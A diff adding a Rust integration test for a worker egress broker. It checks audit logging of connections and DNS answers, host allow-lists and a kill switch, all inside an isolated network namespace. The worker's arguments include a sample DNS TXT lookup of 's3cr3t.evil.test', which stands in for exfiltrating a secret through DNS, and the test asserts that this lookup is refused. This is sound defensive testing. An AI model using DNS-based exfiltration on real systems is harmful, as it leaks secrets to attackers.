@@ -1,0 +1,98 @@
+//! Egress for workers: a worker whose manifest allows hosts reaches them through its own
+//! broker, every connection and DNS answer is in the audit trail as the worker's, and the
+//! kill switch closes its connections. The controller runs in the client namespace of a
+//! test bed (tests/common/egress_bed.rs), so nothing leaves the machine.
+
+mod common;
+
+use std::time::Duration;
+
+use common::controller::TestController;
+use common::egress_bed::*;
+use common::*;
+
+const CONTRACT: &str = "max_depth = 2\nmax_replicas = 4\ncooldown_seconds = 0\n";
+
+#[test]
+fn a_workers_connections_are_audited_and_the_kill_switch_closes_them() {
+    if !is_root() {
+        eprintln!("SKIP: worker egress needs root (network namespaces for the bed)");
+        return;
+    }
+    let bed = Bed::new();
+    let resolve = format!("api.test={BED_ADDR}");
+    // nsenter joins the bed's network namespace alone (`ip netns exec` would also remount
+    // /sys, hiding the host's cgroups from the controller).
+    let netns = format!("--net=/run/netns/{}", bed.client);
+    let ctl = TestController::start_under(
+        &["nsenter", &netns, "--"],
+        CONTRACT,
+        None,
+        &["--resolve", &resolve],
+    );
+    let kit = bed.kit.path_str();
+    let payload = bed.kit.payload();
+    let out = ctl.cli(&[
+        "spawn",
+        "--no-controller",
+        "--allow-host",
+        "api.test:9001",
+        "--ro",
+        &kit,
+        "--",
+        PYTHON,
+        &payload,
+        "dns",
+        "udp",
+        "TXT",
+        "s3cr3t.evil.test",
+        "+",
+        "read-forever",
+        "api.test",
+        "9001",
+        "worker",
+    ]);
+    assert!(out.status.success(), "spawn: {}", stderr(&out));
+    assert!(
+        bed.servers()
+            .wait_for_log("accept 9001", Duration::from_secs(20)),
+        "the worker never reached the bed: {}\n{}",
+        bed.servers().log(),
+        ctl.log()
+    );
+    let answered = ctl.wait_audit("dns_answered", Duration::from_secs(10));
+    assert!(
+        answered.iter().any(|e| e["details"]["name"] == "api.test"
+            && e["actor"]
+                .as_str()
+                .is_some_and(|a| a.starts_with("worker:"))),
+        "{answered:?}"
+    );
+    let refused = ctl.wait_audit("dns_refused", Duration::from_secs(10));
+    assert!(
+        refused
+            .iter()
+            .any(|e| e["details"]["name"] == "s3cr3t.evil.test"),
+        "{refused:?}"
+    );
+    let ks = ctl.cli(&["kill-switch"]);
+    assert!(ks.status.success(), "kill-switch: {}", stderr(&ks));
+    assert!(
+        bed.servers()
+            .wait_for_log("closed 9001", Duration::from_secs(10)),
+        "the kill switch left the worker's connection open: {}",
+        bed.servers().log()
+    );
+    let allowed = ctl.wait_audit("egress_allowed", Duration::from_secs(10));
+    assert!(
+        allowed.iter().any(|e| e["details"]["name"] == "api.test"
+            && e["details"]["port"] == 9001
+            && e["details"]["address"] == BED_ADDR),
+        "{allowed:?}"
+    );
+    assert!(
+        bed.servers().log_lines(&["udp 53"]).is_empty(),
+        "a name went upstream: {}",
+        bed.servers().log()
+    );
+}
